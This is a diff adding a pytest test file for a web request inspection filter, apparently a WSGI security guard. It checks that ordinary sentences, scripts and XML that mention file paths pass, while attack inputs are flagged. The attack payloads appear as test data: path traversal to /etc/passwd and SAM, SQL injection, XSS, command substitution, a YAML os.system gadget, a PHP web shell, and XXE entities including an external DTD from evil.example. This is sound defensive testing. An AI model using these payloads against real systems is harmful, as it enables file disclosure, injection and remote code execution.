@@ -1,0 +1,123 @@
+"""Sentences that name files, programs stored as text, and XML with what formats prescribe."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+from guard_wsgi.detection import Inspection
+
+SENTENCES = (
+    "Update etc/shadow.sample",
+    "Delete config/database.yml and add config/database.yml.example",
+    "Please, see ../../docs/install.md for the path /etc/passwd",
+    "Why is C:\\Windows\\System32\\drivers\\etc\\hosts read only?",
+    "Look at file:///etc/hosts first",
+)
+
+
+@pytest.mark.parametrize("text", SENTENCES)
+@pytest.mark.parametrize("field", ["message", "comment", "title", "commits[].message"])
+def test_a_sentence_names_files(inspection: Inspection, field: str, text: str) -> None:
+    body = json.dumps({field: text}).encode()
+    assert not inspection.body(body, content_type="application/json")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "../../../../etc/passwd",
+        "/etc/passwd",
+        "C:\\Windows\\System32\\config\\SAM",
+        "file:///etc/passwd",
+        "..%2f..%2f..%2fetc%2fpasswd",
+        "a ../../../../etc/passwd",
+    ],
+)
+def test_a_path_is_no_sentence(inspection: Inspection, text: str) -> None:
+    body = json.dumps({"message": text}).encode()
+    assert inspection.body(body, content_type="application/json")
+
+
+@pytest.mark.parametrize("field", ["file", "page", "path", "template", "item"])
+def test_a_field_that_is_opened_has_no_sentences(inspection: Inspection, field: str) -> None:
+    body = json.dumps({field: "Update ../../../../etc/passwd"}).encode()
+    assert inspection.body(body, content_type="application/json")
+
+
+@pytest.mark.parametrize("attack", ["x' OR '1'='1' -- ", "<script>alert(1)</script>", "$(id)"])
+def test_a_sentence_excuses_no_other_attack(inspection: Inspection, attack: str) -> None:
+    body = json.dumps({"message": f"Update etc/shadow.sample {attack}"}).encode()
+    assert inspection.body(body, content_type="application/json")
+
+
+SHELL = """#!/usr/bin/env bash
+set -e
+if [[ $(arch) == "aarch64" ]]; then
+  echo "ERROR: not built for it" >&2
+  exit 1
+fi
+FOLDER=$(dirname "$0")
+cd "$FOLDER" || exit 1
+tar xzf data.tar.gz && rm -f data.tar.gz
+"""
+C = """#include <stdio.h>
+#define KIND "a"
+static int check(PyObject *arg)
+{
+    if (!PyGreenlet_Check(arg)) {
+        PyErr_BadArgument();
+        return NULL;
+    }
+    if (arg == NULL || arg->kind == 'a' || arg->kind == 'b') return -1;
+    return 0;
+}
+"""
+
+
+@pytest.mark.parametrize("source", [SHELL, C])
+def test_a_program_is_stored_as_text(inspection: Inspection, source: str) -> None:
+    for line_end in ("\n", "\r\n"):
+        body = source.replace("\n", line_end).encode()
+        assert not inspection.body(body, content_type="text/plain; charset=utf-8")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "!!python/object/apply:os.system\nargs:\n  - id\n#\n#\n#\n#\n",
+        "x' UNION SELECT username, password FROM users -- ",
+        "<?php system($_GET['c']); ?>",
+    ],
+)
+def test_a_text_that_is_no_program_is_weighed(inspection: Inspection, text: str) -> None:
+    assert inspection.body(text.encode(), content_type="text/plain")
+
+
+XSL = """<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
+<xsl:template match="//b | //c"><p/></xsl:template></xsl:stylesheet>"""
+DTD = """<!-- A catalogue. -->
+<!ENTITY % text "(#PCDATA)">
+<!ELEMENT book (title, author*)>
+<!ATTLIST book id ID #REQUIRED>
+"""
+FONTS = '<?xml version="1.0"?>\n<!DOCTYPE fontconfig SYSTEM "../fonts.dtd">\n<fontconfig/>'
+
+
+def test_documents_name_what_their_formats_prescribe(inspection: Inspection) -> None:
+    for text, kind in (
+        (XSL, "application/xslt+xml"),
+        (XSL.replace("xsl:", "t:").replace("xmlns:xsl", "xmlns:t"), "application/xml"),
+        (DTD, "application/xml-dtd"),
+        (FONTS, "application/xml"),
+    ):
+        assert not inspection.body(text.encode(), content_type=kind), text
+
+
+def test_entities_are_found_whatever_a_document_is_called(inspection: Inspection) -> None:
+    entity = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
+    for kind in ("application/xml-dtd", "application/xml", "application/xslt+xml"):
+        assert inspection.body(entity.encode(), content_type=kind)
+    outside = '<!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r/>'
+    assert inspection.body(outside.encode(), content_type="application/xml")
